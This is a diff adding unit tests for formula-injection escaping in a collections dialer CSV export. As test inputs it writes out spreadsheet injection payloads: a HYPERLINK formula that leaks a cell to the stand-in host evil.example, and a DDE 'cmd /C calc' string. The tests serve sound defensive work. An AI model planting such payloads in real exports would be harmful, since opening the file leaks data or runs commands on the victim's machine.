@@ -1,7 +1,7 @@
 import { CollectionsPath, CollectionsStep, DEFAULT_PATH_KEY } from '../collections.entity';
 import { pathBook } from '../collections-path.service';
 import { percentOf } from '../collections-run.service';
-import { csvField, dialerCsv, dialerRow, renderTemplate, unknownPlaceholders } from '../collections-text';
+import { csvCell, csvField, dialerCsv, dialerRow, parseCsvRecord, renderTemplate, unknownPlaceholders } from '../collections-text';
 
 const facts = { name: 'Ann Lee', accountNumber: 'A-1', phone: '+1 555 0100', pastDue: 12345, daysPastDue: 17 };
 
@@ -33,6 +33,38 @@ describe('dialer CSV', () => {
       'accountNumber,name,phone,pastDue,daysPastDue\r\nA-1,Ann Lee,+1 555 0100,123.45,17\r\nA-1,"Lee, ""Rick""",,0.05,7\r\n',
     );
     expect(dialerCsv([])).toBe('accountNumber,name,phone,pastDue,daysPastDue\r\n');
+  });
+});
+
+describe('dialer CSV opened in a spreadsheet', () => {
+  it('prefixes a cell a spreadsheet would run as a formula with a single quote, quoting it when needed', () => {
+    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
+    expect(csvCell('-2+3')).toBe("'-2+3");
+    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
+    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvCell('  =1+1')).toBe("'  =1+1");
+  });
+
+  it('leaves ordinary names, amounts and international phone numbers as they are', () => {
+    expect(csvCell('Ann Lee')).toBe('Ann Lee');
+    expect(csvCell('Smith-Jones = partner')).toBe('Smith-Jones = partner');
+    expect(csvCell('123.45')).toBe('123.45');
+    expect(csvCell('+44 (20) 7946-0000')).toBe('+44 (20) 7946-0000');
+    expect(csvCell("'=already neutralised")).toBe("'=already neutralised");
+  });
+
+  it('writes a dangerous name neutralised, also from a row stored before cells were neutralised', () => {
+    const row = dialerRow({ ...facts, name: '=HYPERLINK("http://x","y")' });
+    expect(row).toBe(`A-1,"'=HYPERLINK(""http://x"",""y"")",+1 555 0100,123.45,17`);
+    const storedBefore = 'A-2,"=HYPERLINK(""http://x"",""y"")",@1,5.00,3';
+    expect(dialerCsv([row, storedBefore]).split('\r\n').slice(1, 3)).toEqual([row, `A-2,"'=HYPERLINK(""http://x"",""y"")",'@1,5.00,3`]);
+  });
+
+  it('reads back the fields csvField writes', () => {
+    const fields = ['plain', 'Lee, Ann', 'The "Big" Shop', 'two\r\nlines', '', ' padded'];
+    expect(parseCsvRecord(fields.map(csvField).join(','))).toEqual(fields);
   });
 });
 
